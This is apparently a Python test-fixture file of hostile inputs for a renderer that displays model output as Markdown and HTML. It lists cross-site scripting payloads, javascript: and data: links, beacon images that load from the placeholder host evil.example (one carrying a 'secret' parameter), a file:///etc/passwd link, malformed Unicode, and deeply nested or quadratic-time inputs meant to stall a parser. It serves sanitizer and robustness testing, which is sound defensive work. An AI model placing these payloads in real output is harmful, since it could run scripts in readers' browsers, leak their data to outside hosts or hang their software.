"""What a model may print to run a script, to call somebody, or to break the page.

Each would set `window.pwned` or fetch from `evil.example` if the page gave way.
"""

from __future__ import annotations

HOST = "https://evil.example"
RUN = "window.pwned=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<script src={HOST}/x.js></script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{HOST}/beacon.png">',
    f'<img srcset="{HOST}/a.png 1x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><use href="{HOST}/x.svg#a"></use></svg>',
    f'<svg><image href="{HOST}/x.png"/></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<math href="javascript:{RUN}">click</math>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{HOST}/x.swf"></object>',
    f'<embed src="{HOST}/x">',
    f'<link rel=stylesheet href="{HOST}/x.css">',
    f"<style>@import '{HOST}/x.css'; body{{display:none}}</style>",
    f'<div style="background:url({HOST}/x.png)">styled</div>',
    f'<base href="{HOST}/">',
    f'<meta http-equiv=refresh content="0;url={HOST}">',
    f'<form action="{HOST}"><input autofocus onfocus={RUN}></form>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={HOST}/v.mp4 onerror={RUN} autoplay></video>",
    f"<audio src={HOST}/a.mp3 onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<textarea><img src=x onerror={RUN}></textarea>",
    f'"><img src=x onerror={RUN}>',
    f"</div></article></main><script>{RUN}</script>",
    f"<portal src={HOST}></portal>",
    f"<button popovertarget=menu onclick={RUN}>x</button>",
]

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n\n[a]",
    f'[x]({HOST} "\\" onmouseover={RUN} \\"")',
    f"![beacon]({HOST}/b.png?secret=1)",
    f"![a][b]\n\n[b]: {HOST}/b.png",
    f"[![x]({HOST}/b.png)]({HOST})",
    "![x](//evil.example/b.png)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | ![]({HOST}/t.png) |",
    f"# <svg onload={RUN}>",
    f"> <iframe src=javascript:{RUN}>",
    f"- <img src=x onerror={RUN}>\n  - [x](javascript:{RUN})",
    f"1. ```\n   <script>{RUN}</script>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{{HOST}/x.png}}$$",
    "$\\def\\a{\\a\\a}\\a$",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    "$$\\rule{1000000em}{1000000em}$$",
]

BROKEN = [
    "\ud83d half a surrogate \udc00",
    "\x00\x01\x02\x1b[31m control characters \x7f",
    "\u202eright to left override\u202c \u2066isolates",
    "e" + "\u0301" * 5_000,
    "\ufeff\ufffe\uffff noncharacters",
    "&#0; &#xd800; &#1114112; &#x110000; &nosuch; &amp",
    "no space at all " + "x" * 200_000,
    "**" * 3_000,
    "[" * 3_000,
    "`" * 3_000,
    "_" * 3_000 + "a",
    "<" * 3_000,
    "![" * 1_000,
    "|" * 2_000 + "\n" + "|-" * 2_000,
    "\\" * 5_000,
    "$" * 3_000,
]

DEEP = [
    "\n".join("  " * depth + "- x" for depth in range(300)),
    "- " * 10_000 + "x",
    ">" * 10_000 + " x",
    "> " * 10_000 + "x",
    "*a _b " * 2_000,
    "[a](" * 2_000,
]

SLOW = {
    "addresses": "a." * 60_000 + "@b",
    "leaning": "_a_b" * 30_000,
    "leaning-words": "**a* " * 10_000,
    "items-in-items": "\n".join("  " * depth + "- x" for depth in range(700)),
    "quotes-in-quotes": ">" * 30_000 + "\nz",
    "one-long-item": "- a\n" + "a\n" * 20_000,
    "underlined": "a\n-\n" * 10_000,
    "formulas-left-open": "\\[\n" * 10_000,
    "links-left-open": "[a](" * 10_000,
    "spaces": "- " + " " * 60_000,
}
"""What takes a reader of Markdown minutes, because its time grows with the square of the text."""
